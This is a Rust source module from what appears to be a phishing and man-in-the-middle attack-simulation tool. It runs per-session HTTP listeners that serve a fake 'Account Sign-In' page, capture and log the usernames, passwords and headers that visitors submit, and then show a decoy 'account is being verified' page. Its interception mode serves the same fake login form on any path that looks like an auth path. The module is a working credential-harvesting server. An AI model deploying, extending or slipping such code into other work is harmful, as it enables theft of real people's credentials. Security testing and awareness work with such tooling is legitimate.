//! Ephemeral per-session HTTP listeners.
//!
//! Each attack session gets its own axum router bound to its allocated
//! port and served from its own tokio task. Every inbound request is
//! fully buffered (bounded by a read timeout and a size cap), decoded,
//! classified, and recorded against the owning session before a canned
//! response goes out.

use std::sync::Arc;
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{StatusCode, header};
use axum::response::{Html, IntoResponse, Json, Response};
use axum::routing::any;
use chrono::Utc;
use tokio::net::TcpListener;
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

use crate::correlate;
use crate::error::SessionError;
use crate::session::{CapturedBody, CapturedEvent, SessionInner, SessionKind};
use crate::session::registry::SessionRegistry;

/// Shared state for one listener's request handlers.
pub struct ListenerContext {
    /// Registry that owns the session; captures are recorded through it.
    pub registry: Arc<SessionRegistry>,
    /// The session this listener feeds.
    pub session: Arc<SessionInner>,
    /// Per-request body read timeout.
    pub read_timeout: Duration,
    /// Buffered body size cap.
    pub max_body_bytes: usize,
    /// Target descriptor pre-filled into the harvest page.
    pub target: Option<String>,
}

impl std::fmt::Debug for ListenerContext {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ListenerContext")
            .field("session", &self.session.id)
            .field("kind", &self.session.kind)
            .finish_non_exhaustive()
    }
}

/// Binds the session's TCP listener.
///
/// The bind happens in the create path, before the serve task exists,
/// so a lost port race surfaces as [`SessionError::PortBindFailed`]
/// instead of a silent dead listener. The actual bound port is read off
/// the returned listener (relevant when binding port 0 in tests).
///
/// # Errors
///
/// Returns [`SessionError::PortBindFailed`] if the TCP bind fails.
pub async fn bind(host: &str, port: u16) -> Result<TcpListener, SessionError> {
    TcpListener::bind((host, port))
        .await
        .map_err(|e| SessionError::PortBindFailed {
            port,
            reason: e.to_string(),
        })
}

/// Spawns the serve task over an already-bound listener.
#[must_use]
pub fn serve(
    ctx: Arc<ListenerContext>,
    listener: TcpListener,
    cancel: CancellationToken,
) -> JoinHandle<()> {
    let port = ctx.session.port;
    let router = match ctx.session.kind {
        SessionKind::Phishing => phishing_router(ctx),
        SessionKind::Mitm => mitm_router(ctx),
    };

    tokio::spawn(async move {
        axum::serve(listener, router)
            .with_graceful_shutdown(async move {
                cancel.cancelled().await;
            })
            .await
            .ok();
        tracing::debug!(port, "ephemeral listener shut down");
    })
}

fn phishing_router(ctx: Arc<ListenerContext>) -> Router {
    Router::new()
        .route("/login", any(phishing_login))
        .fallback(phishing_fallback)
        .with_state(ctx)
}

fn mitm_router(ctx: Arc<ListenerContext>) -> Router {
    Router::new().fallback(mitm_intercept).with_state(ctx)
}

// ---------------------------------------------------------------------------
// Capture pipeline
// ---------------------------------------------------------------------------

/// Buffers, decodes, classifies, and records one request.
///
/// On a body read timeout or oversized body the request is answered with
/// a generic error and nothing is recorded; the listener itself stays up.
async fn capture(ctx: &ListenerContext, req: Request) -> Result<CapturedEvent, Response> {
    let (parts, body) = req.into_parts();

    let headers: Vec<(String, String)> = parts
        .headers
        .iter()
        .map(|(name, value)| {
            (
                name.as_str().to_owned(),
                String::from_utf8_lossy(value.as_bytes()).into_owned(),
            )
        })
        .collect();

    let bytes = match tokio::time::timeout(
        ctx.read_timeout,
        axum::body::to_bytes(body, ctx.max_body_bytes),
    )
    .await
    {
        Ok(Ok(bytes)) => bytes,
        Ok(Err(e)) => {
            tracing::warn!(session = %ctx.session.id, error = %e, "body read failed");
            return Err(generic_error_response());
        }
        Err(_) => {
            let err = SessionError::BodyReadTimeout {
                timeout_ms: u64::try_from(ctx.read_timeout.as_millis()).unwrap_or(u64::MAX),
            };
            tracing::warn!(session = %ctx.session.id, error = %err, "request aborted");
            return Err(generic_error_response());
        }
    };

    let content_type = headers
        .iter()
        .find(|(name, _)| name.eq_ignore_ascii_case("content-type"))
        .map(|(_, value)| value.as_str());
    let body = decode_body(content_type, &bytes);
    let analysis = correlate::analyze(&headers, &body);

    let path = parts
        .uri
        .path_and_query()
        .map_or_else(|| parts.uri.path().to_owned(), |pq| pq.as_str().to_owned());

    Ok(CapturedEvent {
        timestamp: Utc::now(),
        method: parts.method.as_str().to_owned(),
        path,
        headers,
        body,
        analysis,
    })
}

/// Decodes a buffered body by declared content type.
///
/// Decode failures are swallowed: the raw text is kept so the correlator
/// can still scan it.
fn decode_body(content_type: Option<&str>, bytes: &[u8]) -> CapturedBody {
    if bytes.is_empty() {
        return CapturedBody::Empty;
    }
    let raw = String::from_utf8_lossy(bytes).into_owned();
    match content_type {
        Some(ct) if ct.starts_with("application/json") => {
            serde_json::from_slice(bytes).map_or(CapturedBody::Raw(raw), CapturedBody::Json)
        }
        Some(ct) if ct.starts_with("application/x-www-form-urlencoded") => {
            serde_urlencoded::from_bytes(bytes).map_or(CapturedBody::Raw(raw), CapturedBody::Form)
        }
        _ => CapturedBody::Raw(raw),
    }
}

async fn record(ctx: &ListenerContext, req: Request) -> Result<(), Response> {
    let event = capture(ctx, req).await?;
    if let Err(e) = ctx.registry.record_event(ctx.session.id, event).await {
        // The session vanished mid-request; answer normally anyway.
        tracing::debug!(session = %ctx.session.id, error = %e, "capture dropped");
    }
    Ok(())
}

fn generic_error_response() -> Response {
    (StatusCode::BAD_REQUEST, "request could not be processed").into_response()
}

// ---------------------------------------------------------------------------
// Phishing surface
// ---------------------------------------------------------------------------

async fn phishing_login(State(ctx): State<Arc<ListenerContext>>, req: Request) -> Response {
    let method = req.method().clone();
    let query_target = req
        .uri()
        .query()
        .and_then(|q| {
            serde_urlencoded::from_str::<std::collections::BTreeMap<String, String>>(q).ok()
        })
        .and_then(|mut params| params.remove("target"));

    if let Err(resp) = record(&ctx, req).await {
        return resp;
    }

    match method.as_str() {
        "GET" => {
            let target = query_target
                .or_else(|| ctx.target.clone())
                .unwrap_or_default();
            Html(harvest_page(&target)).into_response()
        }
        "POST" => Html(SUCCESS_PAGE.to_owned()).into_response(),
        _ => (StatusCode::NOT_FOUND, "not found").into_response(),
    }
}

async fn phishing_fallback(State(ctx): State<Arc<ListenerContext>>, req: Request) -> Response {
    if let Err(resp) = record(&ctx, req).await {
        return resp;
    }
    (StatusCode::NOT_FOUND, "not found").into_response()
}

fn harvest_page(target: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html>\n<head><title>Account Sign-In</title></head>\n<body>\n\
         <h1>Sign in to continue</h1>\n\
         <form method=\"post\" action=\"/login\">\n\
         <input name=\"username\" placeholder=\"Email\" value=\"{}\">\n\
         <input name=\"password\" type=\"password\" placeholder=\"Password\">\n\
         <button type=\"submit\">Sign in</button>\n\
         </form>\n</body>\n</html>\n",
        html_escape(target)
    )
}

const SUCCESS_PAGE: &str = "<!DOCTYPE html>\n<html>\n<head><title>Verifying...</title></head>\n\
    <body><h1>Thank you</h1><p>Your account is being verified.</p></body>\n</html>\n";

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

// ---------------------------------------------------------------------------
// MITM surface
// ---------------------------------------------------------------------------

/// Response family served by the intercepting proxy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum InterceptPage {
    /// API-looking paths get a JSON payload.
    Api,
    /// Auth-looking paths get a simulated login page.
    Login,
    /// Everything else gets a generic intercept page.
    Generic,
}

fn intercept_page_for(path: &str) -> InterceptPage {
    let lower = path.to_ascii_lowercase();
    if lower.contains("/api/") || lower.ends_with(".json") {
        InterceptPage::Api
    } else if ["login", "signin", "auth"].iter().any(|m| lower.contains(m)) {
        InterceptPage::Login
    } else {
        InterceptPage::Generic
    }
}

async fn mitm_intercept(State(ctx): State<Arc<ListenerContext>>, req: Request) -> Response {
    let path = req.uri().path().to_owned();
    if let Err(resp) = record(&ctx, req).await {
        return resp;
    }

    match intercept_page_for(&path) {
        InterceptPage::Api => Json(serde_json::json!({
            "status": "ok",
            "data": {},
            "request_id": uuid::Uuid::new_v4(),
        }))
        .into_response(),
        InterceptPage::Login => Html(harvest_page("")).into_response(),
        InterceptPage::Generic => Response::builder()
            .status(StatusCode::OK)
            .header(header::CONTENT_TYPE, "text/html; charset=utf-8")
            .body(Body::from(GENERIC_PAGE))
            .unwrap_or_else(|_| StatusCode::OK.into_response()),
    }
}

const GENERIC_PAGE: &str = "<!DOCTYPE html>\n<html>\n<head><title>Loading...</title></head>\n\
    <body><p>Please wait while the page loads.</p></body>\n</html>\n";

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;
    use crate::correlate::AuthKind;

    #[test]
    fn decode_json_body() {
        let body = decode_body(Some("application/json"), br#"{"password":"x"}"#);
        assert_eq!(
            body,
            CapturedBody::Json(serde_json::json!({"password": "x"}))
        );
    }

    #[test]
    fn decode_form_body() {
        let body = decode_body(
            Some("application/x-www-form-urlencoded"),
            b"username=alice&password=hunter2",
        );
        let CapturedBody::Form(map) = body else {
            panic!("expected form body");
        };
        assert_eq!(map["username"], "alice");
        assert_eq!(map["password"], "hunter2");
    }

    #[test]
    fn malformed_json_keeps_raw_text() {
        let body = decode_body(Some("application/json"), b"{not json");
        assert_eq!(body, CapturedBody::Raw("{not json".to_owned()));
    }

    #[test]
    fn missing_content_type_keeps_raw_text() {
        let body = decode_body(None, b"password=secret");
        assert_eq!(body, CapturedBody::Raw("password=secret".to_owned()));
    }

    #[test]
    fn empty_body_decodes_as_empty() {
        assert_eq!(decode_body(Some("application/json"), b""), CapturedBody::Empty);
    }

    #[test]
    fn decoded_form_still_classifies() {
        let body = decode_body(
            Some("application/x-www-form-urlencoded"),
            b"username=alice&password=hunter2",
        );
        let analysis = correlate::analyze(&[], &body);
        assert_eq!(analysis.kind, Some(AuthKind::Credentials));
    }

    #[test]
    fn intercept_heuristic_by_path() {
        assert_eq!(intercept_page_for("/api/v1/users"), InterceptPage::Api);
        assert_eq!(intercept_page_for("/data.json"), InterceptPage::Api);
        assert_eq!(intercept_page_for("/account/login"), InterceptPage::Login);
        assert_eq!(intercept_page_for("/SignIn"), InterceptPage::Login);
        assert_eq!(intercept_page_for("/oauth/authorize"), InterceptPage::Login);
        assert_eq!(intercept_page_for("/home"), InterceptPage::Generic);
    }

    #[test]
    fn harvest_page_escapes_target() {
        let page = harvest_page("<script>alert(1)</script>");
        assert!(!page.contains("<script>"));
        assert!(page.contains("&lt;script&gt;"));
    }
}
